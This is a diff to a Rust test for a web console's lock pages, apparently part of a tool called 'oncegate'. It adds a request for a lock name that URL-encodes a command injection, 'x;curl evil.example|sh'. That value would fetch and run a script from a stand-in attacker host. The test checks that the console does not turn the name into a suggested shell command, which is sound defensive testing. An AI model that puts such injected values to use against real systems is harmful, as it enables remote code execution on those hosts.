@@ -31,6 +31,8 @@ async fn a_page_of_an_engine_that_cannot_list_says_so_and_finds_a_lock_by_its_na
     assert_eq!((named.status, location(&named)), (303, "/console/locks/default/nightly-report"));
     let lock = browser.get(location(&named)).await.expect(200).text;
     assert!(lock.contains("exclusive") && !lock.contains("The lock is free"), "{lock}");
+    let linked = browser.get("/console/locks/default/x%3Bcurl%20evil.example%7Csh").await.expect(200).text;
+    assert!(linked.contains("x;curl") && !linked.contains("oncegate lock show"), "no command with it: {linked}");
     let absent = browser.get("/console/locks/none/nightly-report").await.expect(200).text;
     assert!(!absent.contains("The lock is free"), "its app is not known: {absent}");
 }
